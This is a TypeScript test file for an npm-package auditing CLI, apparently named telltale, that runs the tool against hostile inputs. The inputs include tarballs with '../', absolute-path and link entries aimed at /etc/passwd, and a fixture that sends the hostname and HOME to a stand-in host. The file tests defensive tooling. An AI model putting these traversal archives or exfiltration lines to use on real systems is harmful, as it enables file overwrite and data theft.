// Hostile inputs through the real CLI, as a child process: exit codes, one-line errors, internal findings
// instead of crashes, and nothing written outside the scratch folders.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { mkdir, open, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { SEVERITIES } from '../../src/model/finding.js';
import type { Finding, Location } from '../../src/model/finding.js';
import type { Report } from '../../src/model/report.js';
import { tempRoot, tgz } from '../acquire/tar-fixtures.js';
import { CLI, runCli, scratchDirs, snapshot, type CliResult, type Scratch } from './run-cli.js';
import { REGION_SNIPPET } from '../helpers/fixtures.js';

let root: string;
let s: Scratch;
let fx: string;

before(async () => {
  root = await tempRoot('cli');
  s = await scratchDirs(root);
  fx = join(root, 'fixtures');
  await mkdir(fx);
});
after(async () => {
  await rm(root, { recursive: true, force: true });
});

function cli(...args: string[]): Promise<CliResult> {
  return runCli(args, s);
}

function json(r: CliResult): Report {
  assert.ok(r.code === 0 || r.code === 1, `exit ${r.code}; stderr: ${r.stderr}`);
  return JSON.parse(r.stdout) as Report;
}

/** The kinds reported at `file`: a finding about the same code in several files is listed once, the others in `alsoAt`. */
function rules(report: Report, file?: string): string[] {
  return report.findings
    .filter((f) => file === undefined || f.location.file === file || (f.alsoAt ?? []).some((l) => l.file === file))
    .map((f) => f.ruleId);
}

function assertOneLineError(r: CliResult, pattern?: RegExp): void {
  assert.equal(r.code, 2, `expected exit 2, got ${r.code}; stdout: ${r.stdout.slice(0, 200)}`);
  const lines = r.stderr.split('\n');
  assert.equal(lines.length, 2, `stderr is not exactly one line: ${JSON.stringify(r.stderr)}`);
  assert.equal(lines[1], '');
  assert.match(lines[0]!, /^telltale: /);
  assert.doesNotMatch(r.stderr, /\n\s+at |internal error/, 'stack trace or internal error on stderr');
  if (pattern) assert.match(lines[0]!, pattern);
}

async function pkgDir(name: string, files: Record<string, string | Buffer>): Promise<string> {
  const dir = join(fx, name);
  await mkdir(dir, { recursive: true });
  await writeFile(join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0' }));
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(join(dir, rel, '..'), { recursive: true });
    await writeFile(join(dir, rel), content);
  }
  return dir;
}

describe('hostile tarball', () => {
  it('skips ../, absolute and symlink entries, reports them, and writes nothing outside its temp folder', async () => {
    const outsideAbs = join(root, 'abs-evil.js');
    const tarball = join(fx, 'evil.tgz');
    await writeFile(
      tarball,
      tgz([
        { name: 'package/package.json', content: JSON.stringify({ name: 'evil', version: '1.0.0' }) },
        { name: 'package/index.js', content: REGION_SNIPPET },
        { name: '../evil.js', content: 'escaped();' },
        { name: 'package/../../evil2.js', content: 'escaped();' },
        { name: outsideAbs, content: 'escaped();' },
        { name: 'package/link', type: '2', linkname: root },
        { name: 'package/link/through-link.js', content: 'escaped();' },
        { name: 'package/hard', type: '1', linkname: '/etc/passwd' },
      ]),
    );
    const before = await snapshot(root);
    const r = await cli('audit', tarball, '--format', 'json', '--quiet');
    const report = json(r);
    assert.deepEqual(await snapshot(root), before, 'the audit changed files outside what it cleaned up');
    const problems = report.findings.filter((f) => f.ruleId === 'acquire-problem');
    assert.ok(problems.length >= 4, `acquire problems: ${JSON.stringify(problems.map((p) => [p.location.file, p.message]))}`);
    const text = problems.map((p) => `${p.location.file}: ${p.message}`).join('\n');
    assert.match(text, /\.\./);
    assert.match(text, /absolute/i);
    assert.match(text, /link/i);
    // The good file beside them was still audited.
    assert.ok(rules(report, 'index.js').includes('region-targeting'), rules(report).join(','));
    assert.ok(!report.findings.some((f) => /evil|through-link/.test(f.location.file) && f.ruleId !== 'acquire-problem'));
  });

  it('a corrupt tarball is a one-line error', async () => {
    const bad = join(fx, 'x.tgz');
    await writeFile(bad, Buffer.from('this is not gzip at all, just garbage bytes \x00\x01\x02'.repeat(40)));
    assertOneLineError(await cli('audit', bad));
  });

  it('a gzip stream of garbage is a one-line error', async () => {
    const { gzipSync } = await import('node:zlib');
    const bad = join(fx, 'y.tgz');
    await writeFile(bad, gzipSync(Buffer.from('garbage '.repeat(500))));
    const r = await cli('audit', bad);
    // Either refused as a tarball, or read as one with nothing in it; never a crash.
    if (r.code === 2) assertOneLineError(r);
    else assert.ok(r.code === 0 || r.code === 1, r.stderr);
  });
});

describe('hostile folder', () => {
  it('skips FIFOs, links out of the folder and link loops, and audits the rest', async () => {
    const dir = await pkgDir('specials', { 'real.js': REGION_SNIPPET });
    execFileSync('mkfifo', [join(dir, 'index.js')]);
    await symlink('/etc/passwd', join(dir, 'passwd.js'));
    await symlink('loop', join(dir, 'loop'));
    await symlink(root, join(dir, 'up'));
    const r = await cli('audit', dir, '--format', 'json', '--quiet');
    const report = json(r);
    const skipped = report.findings.filter((f) => f.ruleId === 'acquire-problem').map((f) => f.location.file).sort();
    assert.deepEqual(skipped, ['index.js', 'loop', 'passwd.js', 'up']);
    assert.ok(rules(report, 'real.js').includes('region-targeting'));
    assert.equal(report.stats.files, 1);
  });

  it('a device or FIFO as the target is a one-line error, not a hang', async () => {
    assertOneLineError(await cli('audit', '/dev/zero'), /not a regular file/);
    const fifo = join(fx, 'target.js');
    execFileSync('mkfifo', [fifo]);
    assertOneLineError(await cli('audit', fifo));
  });

  it('a single .js file is a target of its own', async () => {
    const file = join(fx, 'single.js');
    await writeFile(file, REGION_SNIPPET);
    const report = json(await cli('audit', file, '--format', 'json', '--quiet'));
    assert.equal(report.target.kind, 'file');
    assert.ok(rules(report, 'single.js').includes('region-targeting'), rules(report).join(','));
  });
});

describe('output', () => {
  it('a reader that closes the pipe early gets no stack trace', async () => {
    const dir = await pkgDir('many-urls', {
      'a.js': Array.from({ length: 20_000 }, (_, i) => `fetch("https://h${i}.example.com/p/${i}");`).join('\n'),
    });
    const { code, stderr, bytes } = await new Promise<{ code: number | null; stderr: string; bytes: number }>((resolve) => {
      const child = spawn(process.execPath, [CLI, 'audit', dir, '--format', 'json', '--verbose', '--quiet'], {
        env: { PATH: process.env.PATH ?? '', HOME: s.home, TELLTALE_CACHE: s.cache, TMPDIR: s.tmp },
      });
      let err = '';
      let got = 0;
      child.stderr.on('data', (b: Buffer) => (err += b.toString()));
      child.stdout.once('data', (b: Buffer) => {
        got = b.length;
        child.stdout.destroy();
      });
      child.on('close', (c) => resolve({ code: c, stderr: err, bytes: got }));
    });
    assert.ok(bytes > 0);
    assert.equal(stderr, '');
    assert.ok(code === 0 || code === 1, `exit ${code}`);
  });
});

describe('size limit', () => {
  let dir: string;
  before(async () => {
    dir = await pkgDir('big', { 'index.js': REGION_SNIPPET });
    const fh = await open(join(dir, 'huge.js'), 'w');
    try {
      const chunk = Buffer.from('var a = 1; // padding padding padding padding padding padding padding padding\n'.repeat(13_000));
      let written = 0;
      while (written < 100 * 1024 * 1024) written += (await fh.write(chunk)).bytesWritten;
    } finally {
      await fh.close();
    }
  });

  it('a 100 MB file is reported against the default limit, the rest is audited', async () => {
    const report = json(await cli('audit', dir, '--format', 'json', '--quiet'));
    const huge = report.findings.filter((f) => f.location.file === 'huge.js');
    assert.deepEqual(huge.map((f) => f.ruleId), ['size-limit']);
    assert.ok(report.stats.limits.some((l) => l.includes('huge.js')), JSON.stringify(report.stats.limits));
    assert.ok(rules(report, 'index.js').includes('region-targeting'));
  });

  it('--max-file-mb 10 reports size-limit and completes', async () => {
    const report = json(await cli('audit', dir, '--format', 'json', '--quiet', '--max-file-mb', '10'));
    assert.deepEqual(rules(report, 'huge.js'), ['size-limit']);
    assert.match(report.findings.find((f) => f.ruleId === 'size-limit')!.message, /10485760/);
    assert.ok(rules(report, 'index.js').includes('region-targeting'));
  });

  it('--max-file-mb that is not a positive number is a usage error', async () => {
    assertOneLineError(await cli('audit', dir, '--max-file-mb', 'lots'));
    assertOneLineError(await cli('audit', dir, '--max-file-mb', '0'));
  });
});

describe('deep nesting', () => {
  const N = 10_000;
  const cases: [string, string][] = [
    ['arrays.js', `var x = ${'['.repeat(N)}${']'.repeat(N)};\n`],
    ['parens.js', `var y = ${'('.repeat(N)}1${')'.repeat(N)};\n`],
    ['functions.js', `${'function f() {'.repeat(N)}${'}'.repeat(N)}\n`],
    ['objects.js', `var o = ${'{a:'.repeat(N)}1${'}'.repeat(N)};\n`],
    ['calls.js', `var c = ${'f('.repeat(N)}1${')'.repeat(N)};\n`],
    ['members.js', `var m = a${'.b'.repeat(N)};\n`],
    ['binary.js', `var s = 1${' + 1'.repeat(N * 5)};\n`],
  ];
  let dir: string;
  before(async () => {
    dir = await pkgDir('deep', { ...Object.fromEntries(cases), 'index.js': REGION_SNIPPET });
  });

  it('each file gets a depth-limit or parse-error finding, or is analysed; nothing crashes', async () => {
    const r = await cli('audit', dir, '--format', 'json', '--quiet');
    const report = json(r);
    for (const file of ['arrays.js', 'functions.js', 'objects.js', 'calls.js', 'members.js']) {
      const ids = rules(report, file);
      assert.ok(ids.includes('depth-limit') || ids.includes('parse-error'), `${file}: ${ids.join(',')}`);
    }
    // Parentheses leave no nodes in the tree: the file is simply analysed.
    assert.deepEqual(rules(report, 'parens.js'), []);
    for (const [file] of cases) {
      const ids = rules(report, file);
      assert.ok(!ids.includes('analysis-error') && !ids.includes('file-error') && !ids.includes('rule-error'), `${file}: ${JSON.stringify(report.findings.filter((f) => f.location.file === file))}`);
    }
    assert.ok(rules(report, 'index.js').includes('region-targeting'));
  });

  it('a chain long enough to exhaust the stack does not hide the rest of its file', async () => {
    const chains: Record<string, string> = {
      'hide-members.js': `${REGION_SNIPPET}var m = a${'.b'.repeat(3000)};\n`,
      'hide-binary.js': `${REGION_SNIPPET}var n = 1${' + 1'.repeat(5000)};\n`,
      'hide-calls.js': `${REGION_SNIPPET}var c = a${'()'.repeat(3000)};\n`,
    };
    const hide = await pkgDir('hide', chains);
    const report = json(await cli('audit', hide, '--format', 'json', '--quiet'));
    for (const file of Object.keys(chains)) {
      const ids = rules(report, file);
      assert.ok(ids.includes('region-targeting'), `${file}: ${ids.join(',')}`);
      assert.ok(ids.includes('depth-limit') || ids.includes('parse-error'), `${file}: ${ids.join(',')}`);
      assert.ok(!ids.includes('analysis-error'), `${file}: ${ids.join(',')}`);
    }
  });

  it('a chain long enough to exhaust a 1 MB stack in the parser does not hide the rest of its file', async () => {
    const hide = await pkgDir('hide-parser', { 'index.js': `${REGION_SNIPPET}var m = a${'.b'.repeat(50_000)};\nvar n = ${'['.repeat(50_000)}${']'.repeat(50_000)};\n` });
    const report = json(await cli('audit', hide, '--format', 'json', '--quiet'));
    const ids = rules(report, 'index.js');
    assert.ok(ids.includes('region-targeting'), ids.join(','));
    assert.ok(ids.includes('depth-limit'), ids.join(','));
  });
});

describe('invalid UTF-8', () => {
  it('reports invalid-utf8 and still analyses the file', async () => {
    const bytes = Buffer.concat([Buffer.from('// caf'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from('\n' + REGION_SNIPPET)]);
    const dir = await pkgDir('utf8', { 'index.js': bytes });
    const report = json(await cli('audit', dir, '--format', 'json', '--quiet'));
    const ids = rules(report, 'index.js');
    assert.ok(ids.includes('invalid-utf8'), ids.join(','));
    const region = report.findings.find((f) => f.ruleId === 'region-targeting' && f.location.file === 'index.js');
    assert.ok(region, ids.join(','));
    assert.equal(region.severity, 'high');
  });

  it('a file that legitimately contains U+FFFD is not reported', async () => {
    const dir = await pkgDir('fffd', { 'index.js': 'const replacement = "\uFFFD";\n' });
    const report = json(await cli('audit', dir, '--format', 'json', '--quiet'));
    assert.ok(!rules(report).includes('invalid-utf8'));
  });
});

describe('parse errors', () => {
  it('reports the position of the error and audits the other files', async () => {
    const broken = 'const ok = 1;\nfunction f() {\n  return 1 +* 2;\n}\n';
    const dir = await pkgDir('broken', { 'broken.js': broken, 'good.js': REGION_SNIPPET });
    const r = await cli('audit', dir, '--format', 'json', '--quiet');
    assert.equal(r.code, 1);
    const report = json(r);
    const pe = report.findings.find((f) => f.ruleId === 'parse-error');
    assert.ok(pe, rules(report).join(','));
    assert.equal(pe.location.file, 'broken.js');
    assert.equal(pe.location.line, 3);
    const col = pe.location.column;
    assert.ok(col >= 12 && col <= 14, `column ${col} is not at "+*" on line 3`);
    const region = report.findings.find((f) => f.ruleId === 'region-targeting');
    assert.ok(region);
    assert.equal(region.severity, 'high');
    assert.equal(region.location.file, 'good.js');
  });
});

describe('usage errors are one line and exit 2', () => {
  const cases: [string, string[], RegExp?][] = [
    ['no command', []],
    ['no target', ['audit']],
    ['two targets', ['audit', 'a', 'b'], /exactly one target/],
    ['--format xml', ['audit', '.', '--format', 'xml'], /format/],
    ['--fail-on bogus', ['audit', '.', '--fail-on', 'bogus'], /fail-on/],
    ['unknown option', ['audit', '.', '--frobnicate'], /frobnicate/],
    ['unknown command', ['frobnicate', '.'], /unknown command/],
    ['missing path', ['audit', './nope'], /nope/],
    ['--platform bogus', ['audit', '.', '--platform', 'not a platform!']],
  ];
  for (const [label, args, pattern] of cases) {
    it(label, async () => {
      const r = await cli(...args);
      if (args.length === 0) {
        // Bare `telltale` prints the usage on stdout and exits 2.
        assert.equal(r.code, 2);
        assert.match(r.stdout, /Usage/);
        return;
      }
      assertOneLineError(r, pattern);
    });
  }
});

describe('--fail-on', () => {
  let dir: string;
  before(async () => {
    dir = await pkgDir('failon', { 'index.js': REGION_SNIPPET });
  });
  it('exits 0 with --fail-on critical and 1 with --fail-on high for a high finding', async () => {
    const crit = await cli('audit', dir, '--fail-on', 'critical', '--quiet');
    const high = await cli('audit', dir, '--fail-on', 'high', '--quiet');
    const dflt = await cli('audit', dir, '--quiet');
    assert.equal(crit.code, 0, crit.stderr);
    assert.equal(high.code, 1, high.stderr);
    assert.equal(dflt.code, 1, dflt.stderr);
    assert.equal(crit.stderr, '');
  });
  it('a clean package exits 0', async () => {
    const clean = await pkgDir('clean', { 'index.js': 'export const add = (a, b) => a + b;\n' });
    const r = await cli('audit', clean, '--quiet');
    assert.equal(r.code, 0, r.stderr + r.stdout);
  });
});

describe('JSON report shape', () => {
  let report: Report;
  let dir: string;
  const files: Record<string, string> = {
    'index.js': `// héllo — 𝒳 wide chars before the finding\n${REGION_SNIPPET}`,
    'lib/env.js': 'const h = require("os").hostname();\nfetch("https://t.example.com/?h=" + h + process.env.HOME);\n',
    'lib/enc.js': 'const s = "aHR0cHM6Ly9leGFtcGxlLmNuL2NvbGxlY3Q=";\nmodule.exports = atob(s);\n',
    'broken.js': 'let = = 3;\n',
  };
  before(async () => {
    dir = await pkgDir('shape', files);
    report = json(await cli('audit', dir, '--format', 'json', '--quiet', '--verbose'));
  });

  it('has the documented top-level keys', () => {
    assert.deepEqual(Object.keys(report).sort(), ['egress', 'findings', 'inventory', 'stats', 'target', 'tool']);
    assert.equal(report.tool.name, 'telltale');
    assert.equal(report.target.kind, 'folder');
    for (const k of ['hosts', 'urls', 'envVars', 'fingerprintSources', 'installScripts', 'binaries']) assert.ok(k in report.inventory, k);
    assert.equal(typeof report.stats.files, 'number');
    assert.equal(typeof report.stats.bytes, 'number');
    assert.equal(typeof report.stats.ms, 'number');
    assert.ok(Array.isArray(report.stats.limits));
    assert.equal(report.stats.files, 4);
  });

  it('sorts findings by severity', () => {
    const ranks = report.findings.map((f) => SEVERITIES.indexOf(f.severity));
    assert.ok(ranks.every((r) => r >= 0));
    assert.deepEqual(ranks, [...ranks].sort((a, b) => a - b));
    assert.ok(report.findings.length >= 3);
  });

  it('every location has a 1-based line/column consistent with its offset in the file text', async () => {
    const texts = new Map<string, string>();
    for (const rel of Object.keys(files)) texts.set(rel, await readFile(join(dir, rel), 'utf8'));
    const all: [string, Location][] = [];
    const push = (what: string, l: Location) => all.push([what, l]);
    for (const f of report.findings as Finding[]) {
      push(`${f.id} location`, f.location);
      for (const e of f.related) push(`${f.id} ${e.role}`, e.location);
    }
    for (const k of ['hosts', 'urls', 'envVars', 'fingerprintSources'] as const) {
      for (const item of report.inventory[k]) for (const l of item.locations) push(`inventory.${k} ${item.value}`, l);
    }
    assert.ok(all.length >= 8);
    for (const [what, l] of all) {
      assert.deepEqual(Object.keys(l).sort(), ['column', 'file', 'line', 'offset'], what);
      assert.ok(Number.isInteger(l.line) && l.line >= 1, `${what}: line ${l.line}`);
      assert.ok(Number.isInteger(l.column) && l.column >= 1, `${what}: column ${l.column}`);
      const text = texts.get(l.file);
      if (l.file === 'package.json') continue;
      assert.ok(text !== undefined, `${what}: unknown file ${l.file}`);
      assert.ok(l.offset >= 0 && l.offset <= text.length, `${what}: offset ${l.offset}`);
      const before = text.slice(0, l.offset);
      const line = before.split('\n').length;
      const column = l.offset - (before.lastIndexOf('\n') + 1) + 1;
      assert.deepEqual([l.line, l.column], [line, column], `${what} at offset ${l.offset}`);
    }
  });

  it('finding ids are ruleId@file:line:column', () => {
    for (const f of report.findings) assert.equal(f.id, `${f.ruleId}@${f.location.file}:${f.location.line}:${f.location.column}`);
  });

  it('the region finding points at the wide-character file correctly', async () => {
    const text = await readFile(join(dir, 'index.js'), 'utf8');
    const region = report.findings.find((f) => f.ruleId === 'region-targeting');
    assert.ok(region);
    assert.equal(region.location.file, 'index.js');
    assert.ok(region.location.line >= 2);
    const src = region.related.find((e) => e.role === 'source');
    assert.ok(src);
    assert.ok(text.slice(src.location.offset).startsWith('Intl') || text.slice(src.location.offset, src.location.offset + 80).includes('timeZone'), text.slice(src.location.offset, src.location.offset + 60));
  });
});
